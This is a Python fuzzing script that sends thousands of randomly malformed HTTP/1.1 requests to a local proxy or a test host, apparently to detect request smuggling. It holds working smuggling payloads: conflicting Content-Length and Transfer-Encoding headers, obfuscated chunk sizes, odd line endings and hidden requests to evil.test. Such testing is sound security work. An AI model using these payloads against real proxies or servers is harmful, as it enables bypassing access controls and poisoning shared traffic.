# Thousands of requests that are wrong in several ways at once: mutate.py SEED NUMBER WAY, WAY being proxy or direct. What comes of each does
# not matter here; the peers say whether one of them got where it must not.
import random, socket, sys
from concurrent.futures import ThreadPoolExecutor

HIDDEN = b'GET /hidden HTTP/1.1\r\nHost: evil.test\r\n\r\n'
EVIL = b'GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n'
FIELDS = [b'Host: evil.test', b'Host: good.example', b'Content-Length: 0', b'Content-Length: 5',
          b'Content-Length: %d' % len(HIDDEN), b'Content-Length: %d' % (len(HIDDEN) + 5), b'Transfer-Encoding: chunked',
          b'Transfer-Encoding: chunked, chunked', b'Transfer-Encoding:chunked', b'Transfer-Encoding: identity',
          b'transfer-encoding: Chunked', b'Connection: close', b'Connection: keep-alive', b'Connection: Host',
          b'Connection: Content-Length', b'Connection: Transfer-Encoding', b'Upgrade: websocket', b'Connection: upgrade',
          b'Expect: 100-continue', b'X: y', b'X:', b'Trailer: Host', b'X-A: b\r\n Host: evil.test',
          b'Content-Length: 5\r\nContent-Length: 5']
ENDS = [b'\r\n'] * 20 + [b'\n', b'\r', b'\r\r\n', b'\n\r', b'\x0b\r\n', b'\0\r\n', b' \r\n', b'\t\r\n']
NAMES = [b'good.example', b'evil.test', b'good.example:80', b'evil.test:80', b'GOOD.EXAMPLE', b'evil.test#good.example',
         b'good.example@evil.test', b'good.example:80@evil.test']
SIZES = [b'%x', b'%X', b'0%x', b'%x;a=b', b'%x ', b'+%x', b'0x%x', b'%x;a="\r\n']
BODIES = [b'', b'', HIDDEN, EVIL, b'hello', b'0\r\n\r\n' + HIDDEN, b'0\r\n\r\n' + EVIL, b'0\n\n' + HIDDEN]


def chunks(dice):
    out = b''
    for _ in range(dice.randrange(3)):
        data = bytes(dice.choice(b'abcGET \r\n') for _ in range(dice.randrange(1, 20)))
        out += dice.choice(SIZES) % len(data) + dice.choice(ENDS) + data + dice.choice(ENDS)
    return out + dice.choice([b'0', b'00', b'0;x', b'-0', b'0 ']) + dice.choice(ENDS) + dice.choice([b'', b'X: y\r\n']) + b'\r\n'


def fields(dice, name):
    lines = [b'Host: ' + (dice.choice(NAMES) if dice.random() < .2 else name)]
    for _ in range(dice.randrange(3)):
        lines.insert(dice.randrange(len(lines) + 1), dice.choice(FIELDS))
    if dice.random() < .2:
        at = dice.randrange(len(lines))
        line = bytearray(lines[at])
        line.insert(dice.randrange(len(line) + 1), dice.choice(b'\0\r\n\t :;,\x0b\x7f\xa0%@'))
        lines[at] = bytes(line)
    return lines


def request(dice, way):
    name = dice.choice(NAMES) if dice.random() < .25 else b'good.example'
    forms = [b'http://%s/'] * 3 + [b'http://%s', b'HTTP://%s/x?y', b'//%s/'] if way == 'proxy' else [b'/', b'/', b'/x', b'*', b'//%s/']
    form = dice.choice(forms)
    version = dice.choice([b'HTTP/1.1'] * 12 + [b'HTTP/1.0', b'HTTP/1.2', b'http/1.1', b'HTTP/1.1 x', b''])
    method = dice.choice([b'GET', b'POST', b'PUT', b'HEAD', b'OPTIONS', b'get', b'DELETE'])
    space = dice.choice([b' '] * 15 + [b'  ', b'\t'])
    lines = [space.join([method, form % name if b'%' in form else form, version])] + fields(dice, name)
    head = b''.join(line + (dice.choice(ENDS) if dice.random() < .3 else b'\r\n') for line in lines)
    return head + (dice.choice(ENDS) if dice.random() < .2 else b'\r\n') + dice.choice(BODIES + [chunks(dice)])


def send(seed, way):
    dice = random.Random(seed)
    data = b''.join(request(dice, way) for _ in range(dice.choice([1, 1, 2, 3])))
    if dice.random() < .3:
        data += HIDDEN
    cut = dice.randrange(len(data) + 1)
    try:
        with socket.create_connection(('127.0.0.1', 3128) if way == 'proxy' else ('good.example', 80), 20) as s:
            s.sendall(data[:cut])
            s.sendall(data[cut:])
            s.shutdown(socket.SHUT_WR)
            while s.recv(65536):
                pass
    except TimeoutError:
        return 1
    except OSError: # it may be cut off
        pass
    return 0


first, number, way = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
with ThreadPoolExecutor(8) as pool:
    hung = sum(pool.map(lambda seed: send(seed, way), range(first, first + number)))
print('sent', number, 'hung', hung)
